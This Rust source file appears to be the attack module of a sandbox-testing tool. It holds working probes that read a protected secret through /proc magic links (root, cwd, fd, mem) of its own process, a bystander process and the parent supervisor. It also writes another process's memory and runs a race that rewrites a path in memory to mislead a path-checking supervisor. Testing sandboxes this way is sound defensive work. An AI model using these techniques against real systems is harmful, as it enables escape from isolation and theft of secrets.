//! Other ways to files and memory through /proc.

use super::super::given::{Given, Tried};
use super::super::tools::{any, by, content};
use crate::sys::attack::Page;
use std::fs::{self, File, OpenOptions};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::FileExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

fn read(path: impl AsRef<Path>, what: &str) -> Result<String, String> {
    content(File::open(path).map_err(by(what))?)
}

/// The secret below the link `root` of a process.
fn below_root(process: &str, given: &Given) -> PathBuf {
    let mut path = PathBuf::from(format!("/proc/{process}/root"));
    path.extend(given.secret.components().skip(1));
    path
}

/// The secret by the magic links of the process itself.
pub fn own_links(given: &Given) -> Tried {
    let up: PathBuf = std::iter::repeat_n("..", given.work.components().count()).collect();
    let secret: PathBuf = given.secret.components().skip(1).collect();
    any(&mut [
        &mut || read(below_root("self", given), "open /proc/self/root/…"),
        &mut || {
            read(
                below_root("thread-self", given),
                "open /proc/thread-self/root/…",
            )
        },
        &mut || {
            read(
                Path::new("/proc/self/cwd").join(&up).join(&secret),
                "open /proc/self/cwd/…",
            )
        },
    ])
}

/// The secret by the magic links of a process outside, and its memory.
pub fn bystander(given: &Given) -> Tried {
    let process = given.bystander.to_string();
    let place = |what: &str| format!("/proc/{process}/{what}");
    let name = given.secret.file_name().unwrap_or_default();
    any(&mut [
        &mut || read(below_root(&process, given), "open /proc/PID/root/…"),
        &mut || read(Path::new(&place("cwd")).join(name), "open /proc/PID/cwd/…"),
        &mut || {
            read(
                place(&format!("fd/{}", given.descriptor)),
                "open /proc/PID/fd/N",
            )
        },
        &mut || {
            let memory = File::open(place("mem")).map_err(by("open /proc/PID/mem"))?;
            let mut bytes = vec![0; given.token.len()];
            memory
                .read_exact_at(&mut bytes, given.address)
                .map_err(by("read of /proc/PID/mem"))?;
            Ok(String::from_utf8_lossy(&bytes).into_owned())
        },
    ])
}

/// Writes the memory of a process outside through /proc.
pub fn bystander_memory(given: &Given) -> Tried {
    let memory = OpenOptions::new()
        .write(true)
        .open(format!("/proc/{}/mem", given.bystander));
    let memory = memory.map_err(by("open /proc/PID/mem"))?;
    memory
        .write_all_at(b"changed!", given.address)
        .map_err(by("write to /proc/PID/mem"))?;
    Ok("its memory was written".to_owned())
}

/// Overwrites what lies lowest in its own memory, where a supervisor may keep paths, with the path of the
/// secret, while another thread opens an allowed file.
pub fn own_memory(given: &Given) -> Tried {
    let memory = OpenOptions::new().write(true).open("/proc/self/mem");
    let memory = memory.map_err(by("open /proc/self/mem for writing"))?;
    let page = Page::new(false).map_err(by("mmap"))?;
    let path = [given.allowed.as_os_str().as_bytes(), b"\0"].concat();
    page.write(0, &path);
    let secret = [given.secret.as_os_str().as_bytes(), b"\0"].concat();
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                overwrite(&memory, given.allowed.as_os_str().as_bytes(), &secret);
            }
        });
        let end = Instant::now() + Duration::from_secs_f64(given.seconds);
        let mut result = Err("no open was led astray".to_owned());
        while Instant::now() < end {
            match page.open(0).map_err(by("openat")).and_then(content) {
                Ok(text) if text.contains(&given.token) => {
                    result = Ok(text);
                    break;
                }
                _ => {}
            }
        }
        over.store(true, Ordering::Relaxed);
        result
    })
}

/// Replaces the path wherever it occurs in the lowest mapping and in those that nothing else names.
fn overwrite(memory: &File, path: &[u8], by: &[u8]) {
    let maps = fs::read_to_string("/proc/self/maps").unwrap_or_default();
    for line in maps
        .lines()
        .filter(|line| line.split_whitespace().count() == 5)
    {
        let range = line
            .split(' ')
            .next()
            .and_then(|range| range.split_once('-'));
        let number = |text: &str| u64::from_str_radix(text, 16).ok();
        let Some((Some(start), Some(end))) = range.map(|(start, end)| (number(start), number(end)))
        else {
            continue;
        };
        let mut bytes = vec![0; (end - start).min(1 << 16) as usize];
        let readable = File::open("/proc/self/mem").and_then(|own| own.read_at(&mut bytes, start));
        if readable.is_err() {
            continue;
        }
        let found = bytes
            .windows(path.len())
            .enumerate()
            .filter(|(_, window)| *window == path);
        for (at, _) in found {
            let _ = memory.write_all_at(by, start + at as u64);
        }
    }
}

/// The secret by the magic links of the process above this one, which may be the supervisor.
pub fn supervisor(given: &Given) -> Tried {
    let process = crate::sys::process::getppid().to_string();
    any(&mut [
        &mut || read(below_root(&process, given), "open /proc/PPID/root/…"),
        &mut || {
            let mut last = "the directory /proc/PPID/fd is empty".to_owned();
            let files =
                fs::read_dir(format!("/proc/{process}/fd")).map_err(by("open /proc/PPID/fd"))?;
            for file in files.flatten() {
                let regular = fs::metadata(file.path()).is_ok_and(|it| it.is_file());
                match regular.then(|| read(file.path(), "open /proc/PPID/fd/N")) {
                    Some(Ok(text)) if text.contains(&given.token) => return Ok(text),
                    Some(Err(why)) => last = why,
                    _ => {}
                }
            }
            Err(last)
        },
    ])
}
